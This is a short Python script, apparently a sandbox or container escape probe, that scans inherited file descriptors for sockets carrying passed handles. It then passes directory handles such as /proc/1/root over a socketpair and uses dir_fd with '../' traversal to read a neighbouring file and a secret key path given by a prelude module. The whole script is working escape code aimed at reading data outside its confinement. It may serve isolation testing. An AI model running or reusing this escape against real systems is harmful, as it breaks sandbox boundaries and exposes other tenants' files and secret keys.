# Sends open folders around by sockets, and asks every socket it can find for what was left in it.
import os
import socket

from prelude import TOLD, attempt, out

for number in range(3, 64):
    with attempt(), socket.socket(fileno=number) as found:
        found.setblocking(False)
        out(f"a socket: {socket.recv_fds(found, 100, 16)}")
mine, other = socket.socketpair()
for path in ("/", ".", "..", "/proc/1/root", "/proc/1/cwd"):
    with attempt():
        socket.send_fds(mine, [b"x"], [os.open(path, os.O_RDONLY)])
        _, files, _, _ = socket.recv_fds(other, 1, 4)
        for file in files:
            for name in ("../neighbour", "../../../../.." + TOLD["KEY"]):
                with attempt():
                    print(os.read(os.open(name, os.O_RDONLY, dir_fd=file), 100))
print("tried")
